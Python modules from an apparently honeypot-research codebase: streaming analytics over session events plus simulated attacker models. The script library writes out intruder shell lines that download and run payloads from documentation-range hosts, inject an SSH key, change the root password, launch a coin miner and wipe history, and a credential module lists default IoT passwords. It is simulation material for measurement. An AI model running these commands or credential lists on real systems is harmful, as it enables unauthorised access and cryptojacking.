
    def __init__(self, name: str = "exact"):
        self.name = name
        self.counts: Dict[KeyLike, int] = {}
        self.total = 0

    def signature(self) -> Tuple:
        return (self.name,)

    def add(self, key: KeyLike, count: int = 1) -> None:
        self.counts[key] = self.counts.get(key, 0) + count
        self.total += count

    def get(self, key: KeyLike) -> int:
        return self.counts.get(key, 0)

    def items(self) -> List[Tuple[KeyLike, int]]:
        """Key-sorted (key, count) pairs — deterministic output order."""
        return sorted(self.counts.items())

    def merge(self, other: "ExactCounter") -> "ExactCounter":
        """Fold ``other`` in (key-wise sum).  Returns ``self``."""
        _require_compatible(self, other)
        for key, count in other.counts.items():
            self.counts[key] = self.counts.get(key, 0) + count
        self.total += other.total
        return self

    def copy(self) -> "ExactCounter":
        clone = ExactCounter(self.name)
        clone.counts = dict(self.counts)
        clone.total = self.total
        return clone

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, ExactCounter):
            return NotImplemented
        return (
            self.signature() == other.signature()
            and self.total == other.total
            and self.counts == other.counts
        )

    __hash__ = None  # type: ignore[assignment]
