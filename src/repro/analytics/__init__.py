"""Streaming sketch analytics (``repro.analytics``).

Mergeable sketches (:mod:`~repro.analytics.sketches`) and the
:class:`~repro.analytics.streaming.StreamingAnalytics` consumer that
answers the batch :class:`~repro.core.context.AnalysisContext` headline
queries over a live event stream — see DESIGN.md §6g.
"""

from repro.analytics.sketches import (
    CountMinSketch,
    ExactCounter,
    HyperLogLog,
    SpaceSaving,
    hash_key,
    hash_keys,
)
from repro.analytics.streaming import (
    CATEGORY_NAMES,
    AnalyticsConfig,
    StreamingAnalytics,
    iter_session_events,
    replay_store_events,
)

__all__ = [
    "AnalyticsConfig",
    "CATEGORY_NAMES",
    "CountMinSketch",
    "ExactCounter",
    "HyperLogLog",
    "SpaceSaving",
    "StreamingAnalytics",
    "hash_key",
    "hash_keys",
    "iter_session_events",
    "replay_store_events",
]
