"""Streaming analytics over the live event stream or a frozen store.

:class:`StreamingAnalytics` ingests the same per-session events as
:class:`repro.farm.health.FarmHealthMonitor` — attach :meth:`on_event` as a
``LiveFarm`` event tap, or :meth:`feed` recorded flight-recorder dicts —
and answers the headline aggregate queries of the batch
:class:`~repro.core.context.AnalysisContext` without ever freezing a
dataset:

* **exact** (``ExactCounter``): session counts, the five-way category
  mix, and sessions per day — streaming answers equal the batch
  group-bys bit for bit;
* **approximate** (sketches, documented error bounds): unique client
  IPs and unique file hashes (:class:`HyperLogLog`), per-hash occurrence
  estimates (:class:`CountMinSketch`), and top-k hash / client / ASN
  tables (:class:`SpaceSaving`).

Shard discipline mirrors ``Metrics.merge`` / ``Tracer.fold``: run one
consumer per shard, then fold with :meth:`merge` in shard order; the
HyperLogLog / count-min / exact answers are identical for any worker
count and arrival order, and the top-k tables stay within their
documented error envelope (exact while capacity covers the distinct
keys).

Per-session semantics match the batch path: repeated hashes within one
session count once (``HashOccurrences.build`` dedups the same way), and
ASNs below zero (unknown) are excluded like ``unique_as_count``.  Bulk
``generator.block`` events carry no client/hash detail, so they update
only the exact session/category/day accumulators — the same degradation
the health monitor applies.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, Iterable, Iterator, List, Optional, Sequence, Tuple

import numpy as np

from repro.analytics.sketches import (
    CountMinSketch,
    ExactCounter,
    HyperLogLog,
    SpaceSaving,
)
from repro.farm.health import BLOCK_CATEGORY
from repro.honeypot.events import HoneypotEvent
from repro.obs import get_metrics
from repro.store.store import SessionStore

#: Category order matches ``classify.CATEGORIES`` (codes 0..4).
CATEGORY_NAMES = ("NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI")


@dataclass(frozen=True)
class AnalyticsConfig:
    """Sketch sizing and the determinism seed.

    Defaults target the paper-scale aggregates: ``hll_p=12`` gives a
    1.6 % relative standard error on cardinalities, ``cms_width=2048`` /
    ``cms_depth=4`` bound occurrence overestimates by ``e/2048`` of the
    stream (98.2 % confidence), and ``topk_capacity=512`` keeps top-k
    tables exact until a shard sees more than 512 distinct keys.
    """

    seed: int = 2023
    hll_p: int = 12
    cms_width: int = 2048
    cms_depth: int = 4
    topk_capacity: int = 512


@dataclass
class _StreamScratch:
    """Per-open-session state, finalised into the sketches at close."""

    day: int
    client_ip: Optional[int] = None
    asn: Optional[int] = None
    attempted: bool = False
    success: bool = False
    commands: int = 0
    uris: int = 0
    hashes: List[str] = field(default_factory=list)

    def category(self) -> str:
        if not self.attempted:
            return "NO_CRED"
        if not self.success:
            return "FAIL_LOG"
        if not self.commands:
            return "NO_CMD"
        return "CMD_URI" if self.uris else "CMD"


class StreamingAnalytics:
    """Mergeable streaming counterpart of the batch aggregate queries."""

    def __init__(self, config: Optional[AnalyticsConfig] = None):
        cfg = config or AnalyticsConfig()
        self.config = cfg
        self.hll_clients = HyperLogLog(cfg.seed, "analytics.hll.clients", cfg.hll_p)
        self.hll_hashes = HyperLogLog(cfg.seed, "analytics.hll.hashes", cfg.hll_p)
        self.cms_hashes = CountMinSketch(
            cfg.seed, "analytics.cms.hashes", cfg.cms_width, cfg.cms_depth
        )
        self.topk_hashes = SpaceSaving(cfg.topk_capacity, "analytics.topk.hashes")
        self.topk_clients = SpaceSaving(cfg.topk_capacity, "analytics.topk.clients")
        self.topk_asns = SpaceSaving(cfg.topk_capacity, "analytics.topk.asns")
        self.mix = ExactCounter("analytics.mix")
        self.days = ExactCounter("analytics.days")
        self.events_seen = 0
        self._sessions: Dict[str, _StreamScratch] = {}

    # -- canonical per-session intake -------------------------------------

    def observe_session(
        self,
        *,
        category: str,
        day: int,
        client_ip: Optional[int] = None,
        asn: Optional[int] = None,
        hashes: Sequence[str] = (),
    ) -> None:
        """Fold one finished session in (the canonical intake).

        ``hashes`` are deduplicated here, matching the batch
        ``HashOccurrences.build`` per-session dedup.
        """
        get_metrics().inc("sketch.sessions_observed")
        self.mix.add(category)
        self.days.add(int(day))
        if client_ip is not None:
            ip = int(client_ip)
            self.hll_clients.add(ip)
            self.topk_clients.add(ip)
        if asn is not None and int(asn) >= 0:
            self.topk_asns.add(int(asn))
        for sha in dict.fromkeys(hashes):
            self.hll_hashes.add(sha)
            self.cms_hashes.add(sha)
            self.topk_hashes.add(sha)

    def observe_record(self, record) -> None:
        """Fold one row-shaped :class:`SessionRecord` in."""
        if record.n_login_attempts == 0:
            category = "NO_CRED"
        elif not record.login_success:
            category = "FAIL_LOG"
        elif not record.commands:
            category = "NO_CMD"
        elif record.uris:
            category = "CMD_URI"
        else:
            category = "CMD"
        self.observe_session(
            category=category,
            day=record.day,
            client_ip=record.client_ip,
            asn=record.client_asn,
            hashes=record.file_hashes,
        )

    # -- event-stream intake (health-monitor shaped) -----------------------

    def on_event(self, event: HoneypotEvent) -> None:
        """Honeypot event-sink entry (``LiveFarm(event_tap=...)``)."""
        self._consume(
            event.event_type.value, event.timestamp, event.session_id, event.data
        )

    def feed(self, event: Dict[str, Any]) -> None:
        """One flight-recorder event dict (tailed JSONL or Tracer buffer)."""
        data = event.get("data") or {}
        kind = event.get("kind", "")
        ts = event.get("ts")
        if kind == "generator.block":
            self._consume_block(ts, data)
            return
        session = data.get("session", "")
        if ts is not None:
            self._consume(kind, float(ts), session, data)

    def feed_many(self, events: Iterable[Dict[str, Any]]) -> int:
        count = 0
        for event in events:
            self.feed(event)
            count += 1
        return count

    def ingest_events(self, events: Iterable[Dict[str, Any]]) -> int:
        """:meth:`feed_many` under the ``sketch/ingest`` span (throughput
        accounting — the benchmark/trajectory entry point)."""
        with get_metrics().span("sketch/ingest"):
            return self.feed_many(events)

    def _consume(
        self, kind: str, ts: float, session: str, data: Dict[str, Any]
    ) -> None:
        self.events_seen += 1
        get_metrics().inc("sketch.events_consumed")
        if kind == "honeypot.session.connect":
            if session:
                src_ip = data.get("src_ip")
                src_asn = data.get("src_asn")
                self._sessions[session] = _StreamScratch(
                    day=int(ts // 86_400),
                    client_ip=None if src_ip is None else int(src_ip),
                    asn=None if src_asn is None else int(src_asn),
                )
            return
        scratch = self._sessions.get(session)
        if scratch is None:
            return
        if kind in ("honeypot.login.success", "honeypot.login.failed"):
            scratch.attempted = True
            if kind == "honeypot.login.success":
                scratch.success = True
        elif kind == "honeypot.command.input":
            scratch.commands += 1
        elif kind == "honeypot.session.file_download":
            scratch.uris += 1
            sha = data.get("shasum")
            if sha:
                scratch.hashes.append(str(sha))
        elif kind in (
            "honeypot.session.file_created",
            "honeypot.session.file_modified",
        ):
            sha = data.get("shasum")
            if sha:
                scratch.hashes.append(str(sha))
        elif kind == "honeypot.session.closed":
            self._sessions.pop(session, None)
            self.observe_session(
                category=scratch.category(),
                day=scratch.day,
                client_ip=scratch.client_ip,
                asn=scratch.asn,
                hashes=scratch.hashes,
            )

    def _consume_block(self, ts: Optional[float], data: Dict[str, Any]) -> None:
        """Bulk-path block: exact counts only (no client/hash detail)."""
        self.events_seen += 1
        get_metrics().inc("sketch.events_consumed")
        sessions = int(data.get("sessions", 0))
        if sessions <= 0 or ts is None:
            return
        category = BLOCK_CATEGORY.get(str(data.get("category", "")))
        if category is None and data.get("campaign"):
            category = str(data.get("session_kind", "CMD"))
        if category not in CATEGORY_NAMES:
            category = "CMD"
        self.mix.add(category, sessions)
        self.days.add(int(float(ts) // 86_400), sessions)
        get_metrics().inc("sketch.sessions_observed", sessions)

    # -- frozen-store intake ----------------------------------------------

    def ingest_store(self, store: SessionStore) -> int:
        """Replay a frozen store through the per-session intake.

        Runs the same online decision procedure per row as the event
        path (no columnar shortcuts), so the differential tests compare
        two genuinely independent implementations.
        """
        metrics = get_metrics()
        with metrics.span("sketch/ingest"):
            n = len(store)
            days = (store.start_time // 86_400).astype(np.int64).tolist()
            ips = store.client_ip.tolist()
            asns = store.client_asn.tolist()
            attempts = store.n_attempts.tolist()
            success = store.login_success.tolist()
            commands = store.n_commands.tolist()
            has_uri = store.has_uri.tolist()
            offsets = store.hash_ids.offsets.tolist()
            values = store.hash_ids.values.tolist()
            sha_of = [store.hashes.value_of(i) for i in range(len(store.hashes))]
            for i in range(n):
                if attempts[i] == 0:
                    category = "NO_CRED"
                elif not success[i]:
                    category = "FAIL_LOG"
                elif commands[i] == 0:
                    category = "NO_CMD"
                elif has_uri[i]:
                    category = "CMD_URI"
                else:
                    category = "CMD"
                lo, hi = offsets[i], offsets[i + 1]
                self.observe_session(
                    category=category,
                    day=days[i],
                    client_ip=ips[i],
                    asn=asns[i],
                    hashes=[sha_of[h] for h in values[lo:hi]],
                )
            metrics.inc("sketch.store_sessions_ingested", n)
        return n

    # -- merge -------------------------------------------------------------

    def merge(self, other: "StreamingAnalytics") -> "StreamingAnalytics":
        """Fold another shard's consumer in (call in shard order).

        Exact accumulators, HLLs and the count-min fold exactly (any
        order); top-k tables fold within their error envelope.  Open
        sessions still in flight on either side are carried over.
        """
        if self.config != other.config:
            raise ValueError(
                f"cannot merge analytics with different configs: "
                f"{self.config} vs {other.config}"
            )
        get_metrics().inc("sketch.merges")
        self.hll_clients.merge(other.hll_clients)
        self.hll_hashes.merge(other.hll_hashes)
        self.cms_hashes.merge(other.cms_hashes)
        self.topk_hashes.merge(other.topk_hashes)
        self.topk_clients.merge(other.topk_clients)
        self.topk_asns.merge(other.topk_asns)
        self.mix.merge(other.mix)
        self.days.merge(other.days)
        self.events_seen += other.events_seen
        self._sessions.update(other._sessions)
        return self

    # -- query surface (the batch AnalysisContext counterparts) ------------

    def session_count(self) -> int:
        """Total closed sessions (exact; == ``len(store)``)."""
        return self.mix.total

    def category_counts(self) -> Dict[str, int]:
        """Exact sessions per category (== batch ``classify_store`` bincount)."""
        return {cat: self.mix.get(cat) for cat in CATEGORY_NAMES}

    def category_shares(self) -> Dict[str, float]:
        """Exact category mix (== batch ``classify.category_shares``)."""
        n = self.mix.total
        if n == 0:
            return {cat: 0.0 for cat in CATEGORY_NAMES}
        return {cat: self.mix.get(cat) / n for cat in CATEGORY_NAMES}

    def sessions_per_day(self, n_days: Optional[int] = None) -> np.ndarray:
        """Exact farm-wide daily totals (== ``timeseries.daily_totals``)."""
        if not self.days.counts:
            return np.zeros(n_days or 0, dtype=np.int64)
        size = max(max(self.days.counts) + 1, n_days or 0)
        out = np.zeros(size, dtype=np.int64)
        for day, count in self.days.items():
            out[day] = count
        return out

    def unique_clients(self) -> float:
        """Estimated unique client IPs (HLL; ``rel_error`` documented)."""
        return self.hll_clients.estimate()

    def unique_hashes(self) -> float:
        """Estimated unique file hashes observed (HLL)."""
        return self.hll_hashes.estimate()

    def hash_sessions_estimate(self, sha: str) -> int:
        """Count-min estimate of sessions that downloaded ``sha``.

        One-sided: ``true <= estimate <= true + cms.error_bound()`` with
        probability ``1 - cms.delta``.
        """
        return self.cms_hashes.estimate(sha)

    def top_hashes(self, k: int = 10) -> List[Tuple[str, int, int]]:
        """Top-k hashes by session count as ``(sha, lower, upper)``."""
        return self.topk_hashes.top(k)

    def top_clients(self, k: int = 10) -> List[Tuple[int, int, int]]:
        """Top-k client IPs by session count as ``(ip, lower, upper)``."""
        return self.topk_clients.top(k)

    def top_asns(self, k: int = 10) -> List[Tuple[int, int, int]]:
        """Top-k ASNs by session count (unknown ASNs excluded)."""
        return self.topk_asns.top(k)

    # -- export ------------------------------------------------------------

    def export_gauges(self) -> None:
        """Publish the headline cardinalities to the metrics registry."""
        metrics = get_metrics()
        metrics.gauge_set("sketch.unique.clients", round(self.unique_clients()))
        metrics.gauge_set("sketch.unique.hashes", round(self.unique_hashes()))

    def render_panels(self, k: int = 8) -> str:
        """Human-readable uniques / mix / top-k panels (CLI surface)."""
        lines = [
            f"streaming analytics — {self.session_count():,} sessions, "
            f"{self.events_seen:,} events"
        ]
        c_lo, c_hi = self.hll_clients.interval()
        h_lo, h_hi = self.hll_hashes.interval()
        lines.append(
            f"  unique clients ~ {self.unique_clients():,.0f} "
            f"(3σ {c_lo:,.0f}..{c_hi:,.0f})   "
            f"unique hashes ~ {self.unique_hashes():,.0f} "
            f"(3σ {h_lo:,.0f}..{h_hi:,.0f})"
        )
        shares = self.category_shares()
        mix = "  ".join(f"{cat} {shares[cat] * 100:5.1f}%" for cat in CATEGORY_NAMES)
        lines.append(f"  category mix: {mix}")
        for title, table in (
            ("top hashes", self.top_hashes(k)),
            ("top clients", self.top_clients(k)),
            ("top ASNs", self.top_asns(k)),
        ):
            if not table:
                continue
            err = table[0][2] - table[0][1]
            lines.append(f"  {title} (sessions, lower bound; +err <= {err}):")
            for key, lower, _upper in table:
                lines.append(f"    {key!s:>44}  {lower:>8,}")
        return "\n".join(lines)

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, StreamingAnalytics):
            return NotImplemented
        return (
            self.config == other.config
            and self.hll_clients == other.hll_clients
            and self.hll_hashes == other.hll_hashes
            and self.cms_hashes == other.cms_hashes
            and self.topk_hashes == other.topk_hashes
            and self.topk_clients == other.topk_clients
            and self.topk_asns == other.topk_asns
            and self.mix == other.mix
            and self.days == other.days
        )

    __hash__ = None  # type: ignore[assignment]


def iter_session_events(store: SessionStore) -> Iterator[Dict[str, Any]]:
    """Replay a frozen store as flight-recorder-shaped event dicts.

    Yields the per-session lifecycle (connect, logins, commands, file
    events, close) each row implies, suitable for :meth:`.feed` — the
    event-path and store-path intakes then produce identical analytics.
    Command events are capped at 8 per session (category only needs the
    count to be nonzero); timestamps interpolate across the session
    duration, so replay is fully deterministic.
    """
    n = len(store)
    starts = store.start_time.tolist()
    durations = store.duration.tolist()
    pots = store.honeypot.tolist()
    pot_names = [store.honeypots.value_of(i) for i in range(len(store.honeypots))]
    ips = store.client_ip.tolist()
    asns = store.client_asn.tolist()
    attempts = store.n_attempts.tolist()
    success = store.login_success.tolist()
    commands = store.n_commands.tolist()
    has_uri = store.has_uri.tolist()
    offsets = store.hash_ids.offsets.tolist()
    values = store.hash_ids.values.tolist()
    sha_of = [store.hashes.value_of(i) for i in range(len(store.hashes))]
    seq = 0
    for i in range(n):
        session = f"session:{i}"
        sensor = pot_names[pots[i]]
        base = {"sensor": sensor, "session": session}
        start = starts[i]
        steps: List[Tuple[str, Dict[str, Any]]] = [
            (
                "honeypot.session.connect",
                {**base, "src_ip": ips[i], "src_asn": asns[i]},
            )
        ]
        n_attempts = attempts[i]
        if n_attempts > 0:
            last = "honeypot.login.success" if success[i] else "honeypot.login.failed"
            steps.extend(
                ("honeypot.login.failed", dict(base)) for _ in range(n_attempts - 1)
            )
            steps.append((last, dict(base)))
        if success[i]:
            steps.extend(
                ("honeypot.command.input", dict(base))
                for _ in range(min(commands[i], 8))
            )
        shas = [sha_of[h] for h in values[offsets[i] : offsets[i + 1]]]
        if has_uri[i]:
            if shas:
                steps.extend(
                    (
                        "honeypot.session.file_download",
                        {**base, "shasum": sha, "url": f"http://drop/{sha[:12]}"},
                    )
                    for sha in shas
                )
            else:
                steps.append(("honeypot.session.file_download", dict(base)))
        else:
            steps.extend(
                ("honeypot.session.file_created", {**base, "shasum": sha})
                for sha in shas
            )
        steps.append(("honeypot.session.closed", {**base, "duration": durations[i]}))
        span = max(float(durations[i]), 0.0)
        denom = len(steps)
        for j, (kind, data) in enumerate(steps):
            yield {
                "seq": seq,
                "wall": 0.0,
                "kind": kind,
                "trace_id": session,
                "ts": start + span * j / denom,
                "data": data,
            }
            seq += 1


def replay_store_events(store: SessionStore) -> List[Dict[str, Any]]:
    """Materialised :func:`iter_session_events` (testing/benchmark helper)."""
    return list(iter_session_events(store))
