"""Attacker models: who connects to the honeyfarm and what they do.

The Internet-side population the paper observes — port scanners, credential
scouts, and intrusion campaigns (Mirai botnets, SSH-key trojans, miners) —
is synthesised here.  `credentials` holds the password dictionaries,
`scripts` the interaction scripts intruders run, `campaigns` the attack
campaign specifications (calibrated to the paper's Tables 4-6), and
`population` the client-IP population model (roles, lifetimes, targeting
breadth, geographic mix).
"""

from repro.agents.credentials import CredentialDictionary, SUCCESSFUL_PASSWORDS, FAILED_USERNAMES
from repro.agents.scripts import ScriptTemplate, ScriptKind, build_script
from repro.agents.campaigns import CampaignSpec, marquee_campaigns, midtail_campaigns
from repro.agents.population import ClientPopulation, ClientRole, PopulationConfig

__all__ = [
    "CredentialDictionary",
    "SUCCESSFUL_PASSWORDS",
    "FAILED_USERNAMES",
    "ScriptTemplate",
    "ScriptKind",
    "build_script",
    "CampaignSpec",
    "marquee_campaigns",
    "midtail_campaigns",
    "ClientPopulation",
    "ClientRole",
    "PopulationConfig",
]
