"""Credential dictionaries used by scouts and intruders.

The honeypot accepts ``root`` with any password except ``"root"``; the
paper's Table 2 lists the ten most used *successful* passwords — a mix of
defaults ("admin", "1234") and oddly specific strings suggesting leaked
credential lists ("3245gs5662d34", "vertex25ektks123", "GM8182").  Failed
logins mostly use non-root usernames ("nproc", "admin", "user") or the
rejected password.
"""

from __future__ import annotations

from typing import List, Tuple

from repro.simulation.rng import RngStream

#: Table 2 of the paper: top-10 successful passwords (with relative weights
#: chosen so the sampled ranking reproduces the table's order).
SUCCESSFUL_PASSWORDS: List[Tuple[str, float]] = [
    ("admin", 200.0),
    ("1234", 180.0),
    ("3245gs5662d34", 130.0),
    ("dreambox", 110.0),
    ("vertex25ektks123", 95.0),
    ("12345", 85.0),
    ("h3c", 70.0),
    ("1qaz2wsx3edc", 60.0),
    ("passw0rd", 52.0),
    ("GM8182", 45.0),
    # Long tail of other successful guesses.
    ("password", 30.0),
    ("123456", 28.0),
    ("root123", 22.0),
    ("default", 18.0),
    ("admin123", 15.0),
    ("toor", 12.0),
    ("changeme", 10.0),
    ("qwerty", 9.0),
    ("raspberry", 8.0),
    ("ubnt", 7.0),
    ("support", 6.0),
    ("000000", 5.0),
    ("7ujMko0admin", 4.0),
    ("xc3511", 4.0),
    ("vizxv", 3.5),
    ("juantech", 3.0),
    ("anko", 2.5),
    ("xmhdipc", 2.0),
]

#: Usernames seen on failed attempts (non-root logins always fail).
FAILED_USERNAMES: List[Tuple[str, float]] = [
    ("nproc", 90.0),
    ("admin", 85.0),
    ("user", 70.0),
    ("ubuntu", 40.0),
    ("test", 35.0),
    ("oracle", 28.0),
    ("pi", 25.0),
    ("git", 22.0),
    ("postgres", 20.0),
    ("ftpuser", 16.0),
    ("guest", 14.0),
    ("deploy", 10.0),
    ("hadoop", 8.0),
    ("mysql", 7.0),
    ("www", 6.0),
    ("nagios", 5.0),
]

#: Passwords tried on failing attempts (includes the one root password the
#: policy rejects).
FAILED_PASSWORDS: List[Tuple[str, float]] = [
    ("root", 80.0),
    ("123456", 60.0),
    ("password", 50.0),
    ("admin", 45.0),
    ("12345678", 30.0),
    ("1234", 28.0),
    ("qwerty", 22.0),
    ("abc123", 16.0),
    ("111111", 12.0),
    ("letmein", 8.0),
    ("", 6.0),
]


class CredentialDictionary:
    """Weighted samplers over the credential lists above."""

    def __init__(self, rng: RngStream):
        self.rng = rng
        self._success_values = [p for p, _ in SUCCESSFUL_PASSWORDS]
        self._success_weights = _normalise([w for _, w in SUCCESSFUL_PASSWORDS])
        self._fail_users = [u for u, _ in FAILED_USERNAMES]
        self._fail_user_weights = _normalise([w for _, w in FAILED_USERNAMES])
        self._fail_passwords = [p for p, _ in FAILED_PASSWORDS]
        self._fail_password_weights = _normalise([w for _, w in FAILED_PASSWORDS])

    def successful_password(self) -> str:
        """A password that will pass the (root, != "root") policy."""
        return self.rng.choice(self._success_values, p=self._success_weights)

    def failing_credentials(self) -> Tuple[str, str]:
        """A (username, password) pair that will fail the policy.

        Roughly half the failures are wrong-username attempts; the rest are
        root attempts with the rejected password.
        """
        if self.rng.bernoulli(0.55):
            username = self.rng.choice(self._fail_users, p=self._fail_user_weights)
            password = self.rng.choice(
                self._fail_passwords, p=self._fail_password_weights
            )
            return username, password
        return "root", "root"

    def attempt_sequence(self, n_failures: int, end_success: bool) -> List[Tuple[str, str]]:
        """A login attempt sequence: ``n_failures`` failures, then success."""
        attempts = [self.failing_credentials() for _ in range(n_failures)]
        if end_success:
            attempts.append(("root", self.successful_password()))
        return attempts


def _normalise(weights: List[float]) -> List[float]:
    total = sum(weights)
    return [w / total for w in weights]
