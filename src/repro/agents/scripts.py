"""The intruders' interaction-script library.

Each script is a list of shell input lines an intruder types after login.
Templates are parameterised by a campaign token so that, executed through
the real honeypot shell, a campaign's script produces campaign-unique file
content — hence a stable, campaign-unique hash, which is how the farm
correlates one campaign across honeypots.

The template mix mirrors the paper's Table 3 (information-gathering, script
execution, remote file access, SSH key handling, permission and credential
changes).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import List, Optional


class ScriptKind(enum.Enum):
    RECON = "recon"  # fingerprinting only; no files, no URIs
    KEY_INJECT = "key_inject"  # trojan SSH key via echo >> authorized_keys
    DROPPER = "dropper"  # wget/tftp payload, chmod, run (URI + file)
    MINER = "miner"  # download + install a coin miner (URI + file)
    CHPASSWD = "chpasswd"  # credential change (file, no URI)
    FILE_TOKEN = "file_token"  # one-off file write (unique hash, no URI)
    FILELESS = "fileless"  # commands, no file, no URI


@dataclass(frozen=True)
class ScriptTemplate:
    """A fully instantiated script: input lines + the campaign identity."""

    kind: ScriptKind
    lines: List[str]
    token: str = ""
    dropper_uri: Optional[str] = None
    payload: Optional[bytes] = None

    def __hash__(self) -> int:  # lines is a list; hash on identity fields
        return hash((self.kind, self.token, self.dropper_uri))


RECON_VARIANTS: List[List[str]] = [
    ["uname -a", "free -m", "w"],
    ["cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2}'"],
    ["uname -s -v -n -r -m", "cat /proc/cpuinfo", "nproc"],
    ["uname -a", "lscpu", "df -h", "whoami"],
    ["w", "uname -m", "cat /proc/cpuinfo", "ls -lh $(which ls)"],
    ["uname -a", "cat /etc/passwd", "ps aux"],
    ["free -m", "uptime", "ifconfig"],
    ["nproc", "uname -r", "top"],
]

FILELESS_VARIANTS: List[List[str]] = [
    ["export HISTFILE=/dev/null", "history -c", "uname -a"],
    ["echo -e '\\x41\\x42'", "uname -a"],
    ["crontab -l", "ps aux", "netstat -an"],
    ["which ls", "which wget", "which curl"],
]


def build_script(
    kind: ScriptKind,
    token: str = "",
    dropper_host: str = "",
    arch: str = "arm7",
) -> ScriptTemplate:
    """Instantiate a script of ``kind`` for campaign ``token``.

    ``token`` individuates file content (and thus the recorded hash);
    ``dropper_host`` is the payload server for URI-bearing kinds.
    """
    if kind is ScriptKind.RECON:
        variant = RECON_VARIANTS[_stable_index(token, len(RECON_VARIANTS))]
        return ScriptTemplate(kind=kind, lines=list(variant), token=token)

    if kind is ScriptKind.FILELESS:
        variant = FILELESS_VARIANTS[_stable_index(token, len(FILELESS_VARIANTS))]
        return ScriptTemplate(kind=kind, lines=list(variant), token=token)

    if kind is ScriptKind.KEY_INJECT:
        key = f"AAAAB3NzaC1yc2EAAAADAQABAAABgQ{token or 'default'}"
        lines = [
            "uname -a",
            "chattr -ia .ssh; lockr -ia .ssh",
            "cd ~ && rm -rf .ssh && mkdir .ssh && "
            f'echo "ssh-rsa {key} rsa-key" >> .ssh/authorized_keys && '
            "chmod -R go= ~/.ssh",
            "cat /proc/cpuinfo | grep name | wc -l",
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
            "ls -lh $(which ls)",
            "which ls",
            "crontab -l",
            "w",
            "uname -m",
            "top",
        ]
        return ScriptTemplate(kind=kind, lines=lines, token=token)

    if kind is ScriptKind.DROPPER:
        host = dropper_host or "198.51.100.10"
        binary = f"{arch}.{token or 'bot'}"
        uri = f"http://{host}/bins/{binary}"
        payload = _payload_bytes(token or "bot", size=52_000)
        lines = [
            "enable",
            "system",
            "shell",
            "sh",
            "/bin/busybox ECCHI",
            "cat /proc/mounts; /bin/busybox PEACH",
            f"cd /tmp; wget {uri} || tftp -g -r {binary} {host}",
            f"chmod 777 {binary}; ./{binary}; /bin/busybox IHCCE",
        ]
        return ScriptTemplate(
            kind=kind, lines=lines, token=token, dropper_uri=uri, payload=payload
        )

    if kind is ScriptKind.MINER:
        host = dropper_host or "198.51.100.20"
        uri = f"http://{host}/xm/{token or 'miner'}.sh"
        payload = _miner_payload(token or "miner")
        lines = [
            "uname -a",
            "nproc",
            f"cd /tmp && curl -O {uri} || wget {uri}",
            f"chmod +x {(token or 'miner')}.sh",
            f"sh {(token or 'miner')}.sh",
        ]
        return ScriptTemplate(
            kind=kind, lines=lines, token=token, dropper_uri=uri, payload=payload
        )

    if kind is ScriptKind.CHPASSWD:
        new_password = f"P@{token or 'ss'}w0rd"
        lines = [
            "uname -a",
            f'echo "root:{new_password}" > /tmp/.p',
            "chpasswd < /tmp/.p",
            "rm -f /tmp/.p",
        ]
        return ScriptTemplate(kind=kind, lines=lines, token=token)

    if kind is ScriptKind.FILE_TOKEN:
        lines = [
            "uname -a",
            f'echo "{token}" > /var/tmp/.var{_stable_index(token, 97):02d}',
            "cat /proc/cpuinfo",
        ]
        return ScriptTemplate(kind=kind, lines=lines, token=token)

    raise ValueError(f"unhandled script kind {kind!r}")


def _stable_index(token: str, modulus: int) -> int:
    """Deterministic small index derived from a token string."""
    acc = 0
    for ch in token:
        acc = (acc * 131 + ord(ch)) % 1_000_003
    return acc % modulus


def _payload_bytes(token: str, size: int) -> bytes:
    """Deterministic pseudo-ELF payload for a campaign binary."""
    seed = token.encode("utf-8")
    header = b"\x7fELF\x01\x01\x01\x00" + seed[:8].ljust(8, b"\x00")
    body = (seed or b"x") * (size // max(len(seed), 1) + 1)
    return (header + body)[:size]


def _miner_payload(token: str) -> bytes:
    return (
        "#!/bin/sh\n"
        f"# {token}\n"
        "pkill -f xmrig\n"
        f"./xmrig -o pool.{token}.example:3333 -u 4{token}wallet --donate-level 1\n"
    ).encode("utf-8")
