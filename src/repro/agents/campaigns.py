"""Attack-campaign specifications.

A campaign is the unit behind one file hash in the paper's analysis: a set
of client IPs running the same interaction script against a set of
honeypots over a span of days.  The *marquee* campaigns are calibrated to
the paper's Tables 4-6 (H1..H42): the dominant SSH-key trojan, the Mirai
family pinned to 75-77 honeypots with ``root``/``1234`` credentials, the
few-IP long-lived campaigns, the two miners, and so on.  A programmatic
*mid-tail* fills in the long tail of smaller campaigns.

All counts in the specs are full-scale (the paper's numbers); the workload
generator scales them down.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.agents.scripts import ScriptKind
from repro.intel.tags import ThreatTag
from repro.simulation.clock import OBSERVATION_DAYS
from repro.simulation.rng import RngStream


@dataclass
class CampaignSpec:
    """Specification of one attack campaign (full-scale numbers)."""

    campaign_id: str
    tag: ThreatTag
    kind: ScriptKind
    sessions: int  # total sessions over the campaign's lifetime
    n_clients: int  # unique client IPs
    start_day: int
    n_active_days: int  # days with at least one session
    n_honeypots: int  # 0 = all honeypots in the farm
    intermittent: bool = False  # active days have gaps ("pause and restart")
    pot_group: Optional[str] = None  # campaigns sharing a pinned pot subset
    client_pool: Optional[str] = None  # campaigns sharing a client pool
    password: Optional[str] = None  # fixed successful password, if any
    ssh_share: float = 0.75  # fraction of sessions over SSH
    countries: Optional[Sequence[Tuple[str, float]]] = None  # origin tilt
    in_intel_db: bool = True  # has a threat-intel entry
    #: Recruit from the dedicated CMD+URI client population (marquee URI
    #: campaigns) instead of the broad intruder pool (mid-tail droppers).
    dedicated_uri_pool: bool = False

    @property
    def span_days(self) -> int:
        """Calendar span needed to fit the active days.

        Intermittent campaigns spread their active days over a 3x span so
        their pauses regularly exceed the 7/30-day freshness windows of
        Figure 17 ("some attacks are active, pause, and restart").
        """
        if not self.intermittent:
            return self.n_active_days
        return min(int(self.n_active_days * 3.0) + 8, OBSERVATION_DAYS - self.start_day)


_MIRAI_COUNTRIES = [("CN", 0.25), ("TW", 0.15), ("BR", 0.12), ("IN", 0.10),
